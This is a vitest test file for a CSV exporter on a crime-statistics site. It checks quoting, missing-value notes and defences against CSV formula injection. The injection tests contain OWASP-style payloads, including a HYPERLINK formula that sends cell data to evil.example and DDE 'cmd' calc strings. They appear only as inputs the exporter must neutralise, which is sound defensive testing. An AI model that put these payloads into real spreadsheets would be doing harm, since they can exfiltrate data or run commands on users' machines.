import fc from 'fast-check';
import { missing } from 'peel-data';
import { describe, expect, it } from 'vitest';
import { neutraliseFormula, toCsv } from './csv.ts';
import { getTable } from './server/tables.ts';

const columns = [
  { key: 'force', label: 'Force' },
  { key: 'value', label: 'Value' },
];

/** A small RFC 4180 reader, to check that what toCsv writes reads back the same. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let field = '';
  let row: string[] = [];
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const char = text[index]!;
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        field += '"';
        index += 1;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(field);
      field = '';
    } else if (char === '\r' && text[index + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      index += 1;
    } else field += char;
  }
  return rows;
}

describe('toCsv', () => {
  it.each([
    { name: 'a plain value', value: 'Durham', written: 'Durham' },
    { name: 'a comma', value: 'London, City of', written: '"London, City of"' },
    { name: 'a quote', value: 'the "whole experience" question', written: '"the ""whole experience"" question"' },
    { name: 'a line break', value: 'two\nlines', written: '"two\nlines"' },
  ])('quotes $name only when needed', ({ value, written }) => {
    expect(toCsv(columns, [{ force: value, value: 1 }]).split('\r\n')[1]).toBe(`${written},1,`);
  });

  it('writes a missing value as its marker and its reason in notes, never 0 or blank', () => {
    const csv = toCsv(columns, [
      { force: 'Durham', value: missing('x', 'could not supply data on domestic abuse arrests') },
    ]);
    expect(parseCsv(csv)[1]).toEqual(['Durham', '[x]', 'Value: [x] could not supply data on domestic abuse arrests']);
  });

  it('refuses NaN, naming the row and column', () => {
    expect(() =>
      toCsv(columns, [
        { force: 'A', value: 1 },
        { force: 'B', value: Number.NaN },
      ]),
    ).toThrow(/row 2, column "Value"/);
  });

  it('reads back exactly what it wrote, a formula-like start behind a quote mark (property)', () => {
    // Written independently of the writer: the OWASP list of starts, and printed numbers (sign, digits, ',', '.', '%').
    const guarded = (text: string) =>
      /^[=+\-@\t\r]/.test(text) && !/^[+-]\d[\d,]*(\.\d+)?%?$/.test(text) ? `'${text}` : text;
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.string(), fc.integer()), { maxLength: 20 }), (pairs) => {
        const rows = pairs.map(([force, value]) => ({ force, value }));
        const parsed = parseCsv(toCsv(columns, rows));
        expect(parsed[0]).toEqual(['Force', 'Value', 'notes']);
        expect(parsed.slice(1)).toEqual(rows.map((row) => [guarded(row.force), String(row.value), '']));
      }),
    );
  });
});

describe('toCsv and CSV injection (OWASP)', () => {
  it.each([
    { start: '=', text: '=HYPERLINK("http://evil.example/?"&A1,"Durham")' },
    { start: '+', text: "+cmd|' /C calc'!A0" },
    { start: '-', text: "-2+3+cmd|' /C calc'!A0" },
    { start: '@', text: "@SUM(1+9)*cmd|' /C calc'!A0" },
    { start: 'a tab', text: '\t=1+1' },
    { start: 'a carriage return', text: '\r=1+1' },
  ])('writes a text cell starting with $start behind a quote mark', ({ text }) => {
    expect(parseCsv(toCsv(columns, [{ force: text, value: 1 }]))[1]).toEqual([`'${text}`, '1', '']);
  });

  it('guards the notes column and the header too', () => {
    const csv = toCsv([{ key: 'v', label: '=label' }], [{ v: missing('x', 'not supplied') }]);
    expect(parseCsv(csv)).toEqual([
      ["'=label", 'notes'],
      ['[x]', "'=label: [x] not supplied"],
    ]);
  });

  it.each([
    { label: 'a negative number', cell: -12.5, written: '-12.5' },
    { label: 'a printed change', cell: '-7%', written: '-7%' },
    { label: 'a printed rise', cell: '+30%', written: '+30%' },
    { label: 'a printed count', cell: '-1,234.5', written: '-1,234.5' },
  ])('leaves $label untouched', ({ cell, written }) => {
    expect(parseCsv(toCsv(columns, [{ force: 'Durham', value: cell }]))[1]).toEqual(['Durham', written, '']);
  });

  it.each(['=1+1', '+A1', '-x', '@x'])('neutraliseFormula(%j) starts with a quote mark', (text) => {
    expect(neutraliseFormula(text)).toBe(`'${text}`);
  });

  it("writes the site's real change table as printed: rises and falls stay numbers, not guarded text", () => {
    const table = getTable('metric-crime_change_vs_2011')!;
    const parsed = parseCsv(toCsv(table.columns, table.rows));
    const printed = table.rows.map((row) =>
      table.columns.map((column) => {
        const cell = row[column.key];
        return typeof cell === 'string' ? cell : undefined;
      }),
    );
    const signed = printed.flat().filter((text) => text !== undefined && /^[+-]/.test(text));
    expect(signed.length).toBeGreaterThan(0);
    parsed.slice(1).forEach((fields, index) => {
      printed[index]!.forEach((text, column) => {
        if (text !== undefined) expect(fields[column]).toBe(text);
      });
    });
  });
});
